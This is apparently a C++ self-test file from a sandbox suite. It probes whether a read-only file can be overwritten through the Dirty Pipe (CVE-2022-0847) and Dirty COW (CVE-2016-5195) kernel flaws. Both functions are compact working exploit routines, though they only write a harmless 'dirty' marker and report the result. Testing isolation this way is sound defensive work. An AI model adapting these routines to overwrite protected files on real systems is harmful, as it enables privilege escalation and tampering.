// Kernel bugs of the past that let a reader write. The file is one that may be read and not written.

#include <fcntl.h>
#include <sys/mman.h>
#include <unistd.h>

#include <atomic>
#include <cerrno>
#include <chrono>
#include <thread>

#include "selftest/acts/act.h"

namespace cove::acts {
namespace {

// args: file. CVE-2022-0847: a pipe whose pages were once full keeps a flag that lets the next write go to the page
// that was spliced in.
Act dirty_pipe(const Args& args) {
  const int file = open(args[0].c_str(), O_RDONLY | O_CLOEXEC);
  if (file < 0) return refused_by_errno("open " + args[0]);
  int ends[2];
  if (pipe2(ends, O_CLOEXEC) < 0) return refused_by_errno("pipe");
  const int room = fcntl(ends[1], F_GETPIPE_SZ);
  std::string bytes(static_cast<std::size_t>(room > 0 ? room : 65536), 'x');
  if (write(ends[1], bytes.data(), bytes.size()) < 0) return refused_by_errno("fill the pipe");
  if (read(ends[0], bytes.data(), bytes.size()) < 0) return refused_by_errno("empty the pipe");
  off64_t at = 0;
  if (splice(file, &at, ends[1], nullptr, 1, 0) < 0) return refused_by_errno("splice");
  if (write(ends[1], "dirty", 5) < 0) return refused_by_errno("write to the pipe");
  char now[6] = {};
  if (pread(file, now, 5, 1) < 0) return refused_by_errno("read it again");
  return std::string(now) == "dirty" ? did("the page was written to") : refused("the page stayed as it was");
}

// args: file. CVE-2016-5195: a private copy that is thrown away while it is being written.
Act dirty_cow(const Args& args) {
  const int file = open(args[0].c_str(), O_RDONLY | O_CLOEXEC);
  if (file < 0) return refused_by_errno("open " + args[0]);
  void* map = mmap(nullptr, 4096, PROT_READ, MAP_PRIVATE, file, 0);
  const int memory = open("/proc/self/mem", O_RDWR | O_CLOEXEC);
  if (map == MAP_FAILED || memory < 0) return refused_by_errno("map " + args[0]);
  std::atomic<bool> over{false};
  std::thread thrower([&] {
    while (!over) madvise(map, 4096, MADV_DONTNEED);
  });
  const auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(700);
  while (std::chrono::steady_clock::now() < end) {
    if (pwrite(memory, "dirty", 5, reinterpret_cast<off_t>(map)) < 0) break;
  }
  over = true;
  thrower.join();
  char now[6] = {};
  if (pread(file, now, 5, 0) < 0) return refused_by_errno("read it again");
  return std::string(now) == "dirty" ? did("the page was written to") : refused("the page stayed as it was");
}

constexpr Entry kRacesEntries[] = {
    {"dirty_pipe", dirty_pipe},
    {"dirty_cow", dirty_cow},
};

}  // namespace

std::span<const Entry> race_acts() { return kRacesEntries; }

}  // namespace cove::acts
